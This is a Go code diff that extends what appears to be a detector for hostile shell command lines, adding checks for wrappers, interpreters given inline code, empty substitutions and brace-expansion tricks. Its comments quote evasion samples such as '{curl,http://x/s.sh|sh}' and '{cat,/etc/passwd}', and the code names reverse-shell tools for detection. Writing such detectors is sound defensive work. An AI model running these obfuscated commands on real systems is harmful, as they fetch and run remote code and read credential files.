@@ -136,7 +136,16 @@ func nesting(v string) int {
 // it could be obfuscated or aimed at something: quotes, escapes,
 // expansions, globs, braces or a path.
 func commandLineWorth(v string) bool {
-	return strings.ContainsAny(v, "'\"\\$*?[{/&;|")
+	if strings.ContainsAny(v, "'\"\\$*?[{/&;|") {
+		return true
+	}
+	// nohup ifconfig, time sh -c whoami: a wrapper or interpreter first
+	f := strings.Fields(v)
+	if len(f) < 2 || len(f[0]) > 32 {
+		return false
+	}
+	return (wrappers[f[0]] || lookupCmd(f[0]) == cmdInterp) &&
+		(strings.HasPrefix(f[1], "-") || (len(f[1]) <= 32 && lookupCmd(f[1]) != cmdUnknown))
 }
 
 // firstWordIsCommand: the first word, with quotes and backslashes
@@ -648,7 +657,13 @@ func (a *analyzer) resolvePart(part syntax.WordPart, b *strings.Builder, r *reso
 				r.dynamic = true
 			}
 		}
-	case *syntax.CmdSubst, *syntax.ProcSubst, *syntax.ArithmExp:
+	case *syntax.CmdSubst:
+		if len(p.Stmts) == 0 {
+			r.expanded = true // ping$() 127.0.0.1: an empty substitution
+			return
+		}
+		r.dynamic = true
+	case *syntax.ProcSubst, *syntax.ArithmExp:
 		r.dynamic = true
 	case *syntax.ExtGlob:
 		r.glob = true
@@ -728,6 +743,9 @@ func (a *analyzer) commandName(c *syntax.CallExpr) (name string, kind cmdKind, r
 		// {cat,/etc/passwd}: brace expansion into words (the closing
 		// brace may be cut off by a pipe: {curl,http://x/s.sh|sh})
 		fields := strings.Split(strings.TrimSuffix(t[1:], "}"), ",")
+		for len(fields) > 1 && fields[0] == "" {
+			fields = fields[1:] // {,ifconfig}
+		}
 		t, extra = fields[0], fields[1:]
 		rw.expanded = true
 	}
@@ -1064,6 +1082,23 @@ func substIsWhole(v string) bool {
 	return false
 }
 
+// runsCode: an interpreter given code to run (sh -c 'id', python -c …,
+// perl -e …, cmd /c …, powershell -enc …) whose code is not a sentence.
+func (a *analyzer) runsCode(c *syntax.CallExpr) bool {
+	for i := 1; i+1 < len(c.Args); i++ {
+		flag := strings.ToLower(a.resolve(c.Args[i]).text)
+		switch flag {
+		case "-c", "-e", "-r", "/c", "/k", "-enc", "-encodedcommand", "-command", "--eval", "-ex", "-wrapper":
+			code := a.resolve(c.Args[i+1]).text
+			if f := strings.Fields(code); len(f) > 0 && (lookupCmd(strings.TrimLeft(f[0], "!")) != cmdUnknown ||
+				strings.ContainsAny(code, "();|&$`'\"=") || len(f) == 1) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
 // severeArgs: a reverse shell or a listener handing out a shell.
 func (a *analyzer) severeArgs(name string, c *syntax.CallExpr) bool {
 	nc := name == "nc" || name == "ncat" || name == "netcat" || name == "socat"
@@ -1104,8 +1139,10 @@ func (a *analyzer) judgeCommandLine(c *syntax.CallExpr) {
 		return
 	}
 	s := a.args(c, extra)
+	wrapped := false
 	if idx, n, k := a.unwrap(c, name, kind); idx > 0 {
 		name, kind, s = n, k, a.argsFrom(c, idx+1, nil)
+		wrapped = true
 	}
 	if s.prose >= 3 && s.prose > s.shellish {
 		return // a sentence that starts with a command name
@@ -1122,6 +1159,10 @@ func (a *analyzer) judgeCommandLine(c *syntax.CallExpr) {
 		a.consider(65, name+" of a network address", c)
 	case kind == cmdInterp && s.shellish > 0 && s.prose == 0 && rw.expanded:
 		a.consider(80, "interpreter named through a variable: "+name, c)
+	case kind == cmdInterp && a.runsCode(c):
+		a.consider(80, name+" runs code given on its command line", c)
+	case wrapped && (s.n == 0 || s.shellish >= s.prose):
+		a.consider(70, "command run through a wrapper: "+name, c)
 	}
 }
 
